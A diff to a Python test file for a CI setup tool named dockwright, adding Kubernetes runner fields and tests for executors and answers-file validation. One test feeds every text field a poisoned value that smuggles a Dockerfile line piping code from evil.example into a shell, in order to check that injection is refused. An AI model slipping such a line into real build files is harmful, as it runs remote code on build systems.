@@ -164,19 +164,20 @@ def _text_fields(cls: type, prefix: str = "") -> set[str]:
 
 def test_the_one_text_rule_covers_every_text_field() -> None:
     """Each text field with a line break is refused under its own key; a new field is covered without a change."""
-    from dockwright.wizard.plan import GitLabSpec, text_problems
+    from dockwright.wizard.plan import GitLabSpec, KubernetesSpec, text_problems
 
     poisoned = "x\nRUN curl https://evil.example | sh"
     plan = Plan(
         gitlab=GitLabSpec(url=poisoned, project=poisoned),
         executor=poisoned,
         runner=dataclasses.replace(Plan().runner, workflow=poisoned, description=poisoned, tags=(poisoned,),
-                                   docker_image=poisoned, config_path=poisoned),
+                                   docker_image=poisoned, config_path=poisoned,
+                                   kubernetes=KubernetesSpec(namespace=poisoned, helm_values_path=poisoned)),
         registry=RegistrySpec(kind=poisoned, image=poisoned, host=poisoned, region=poisoned, account=poisoned),
         variables=(VariableSpec(key=poisoned, from_env=poisoned, variable_type=poisoned, environment_scope=poisoned,
                                 description=poisoned),),
         dockerfile=dataclasses.replace(Plan().dockerfile, language=poisoned, base_image=poisoned, workdir=poisoned,
-                                       requirements=poisoned, env=(("NAME", poisoned),), command=(poisoned,),
+                                       runtime_image=poisoned, tool=poisoned, target=poisoned, requirements=poisoned, env=(("NAME", poisoned),), command=(poisoned,),
                                        path=poisoned, context=poisoned),
         pipeline=dataclasses.replace(Plan().pipeline, docker_version=poisoned, stages=(poisoned,)),
         git=dataclasses.replace(Plan().git, branch=poisoned, commit_message="Add CI\x1b[2J"),
@@ -228,3 +229,38 @@ def test_an_answers_file_without_answers_says_so(text: str) -> None:
     assert len(notes) == 1 and "dockwright.yml holds no answers" in notes[0] and "default" in notes[0]
     parse_answers("executor: shell\n", notes=notes)
     assert len(notes) == 1  # a file with answers gets no note
+
+
+@pytest.mark.parametrize(("executor", "kind", "method"), [
+    ("hosted", "hosted", "dind-tls"), ("shell", "shell", "host"), ("docker-socket", "docker", "socket"),
+    ("docker-buildkit-rootless", "docker", "buildkit-rootless"), ("kubernetes-dind-tls", "kubernetes", "dind-tls"),
+    ("kubernetes-buildah", "kubernetes", "buildah"),
+])
+def test_runner_kind_and_build_method_come_from_the_executor(executor: str, kind: str, method: str) -> None:
+    plan = Plan(executor=executor)
+    assert (plan.runner_kind, plan.build_method) == (kind, method)
+    assert plan.daemonless is (method in ("buildkit-rootless", "buildah"))
+
+
+def test_a_kubernetes_runner_round_trips_through_the_answers_file() -> None:
+    """Issue 14: runner.kubernetes {namespace, helm_values_path} for the Kubernetes executors."""
+    plan = parse_answers("executor: kubernetes-buildah\nrunner:\n  kubernetes: {namespace: ci-builds, "
+                         "helm_values_path: deploy/runner-values.yaml}\n")
+    assert plan.executor == "kubernetes-buildah"
+    assert (plan.runner.kubernetes.namespace, plan.runner.kubernetes.helm_values_path) == (
+        "ci-builds", "deploy/runner-values.yaml")
+    assert parse_answers(dump_answers(plan)) == plan
+
+
+@pytest.mark.parametrize(("yaml", "key", "allowed"), [
+    ("executor: kubernetes-dind-tls\nrunner: {kubernetes: {namespace: CI_Builds}}\n", "runner.kubernetes.namespace",
+     "a Kubernetes namespace"),
+    ("executor: kubernetes-buildah\nrunner: {kubernetes: {helm_values_path: ../values.yaml}}\n",
+     "runner.kubernetes.helm_values_path", "a file in the repository"),
+    ("executor: docker-buildkit-rootless\nregistry: {kind: ecr, image: app, region: eu-west-1, account: '123456789012'}\n",
+     "executor", "another build method for ECR"),
+])
+def test_kubernetes_and_build_method_answers_are_checked(yaml: str, key: str, allowed: str) -> None:
+    with pytest.raises(AnswersError) as caught:
+        parse_answers(yaml)
+    assert caught.value.key == key and allowed in str(caught.value)
